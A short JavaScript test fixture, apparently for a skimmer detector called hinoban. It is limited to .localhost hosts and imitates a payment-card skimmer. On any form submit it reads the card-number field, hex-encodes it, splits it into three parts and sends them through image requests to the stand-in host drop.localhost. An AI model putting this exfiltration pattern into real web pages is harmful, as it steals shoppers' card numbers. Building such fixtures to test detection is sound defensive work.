/* Harmless imitation, for hinoban's tests: hexadecimal split over three requests. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		var h = ''; for (var i = 0; i < n.value.length; i++) h += n.value.charCodeAt(i).toString(16);
		[0, 11, 22].forEach(function (k, i) { new Image().src = 'http://drop.localhost:' + location.port + '/p.gif?p' + i + '=' + h.slice(k, k + 11); });
	 } }, true);
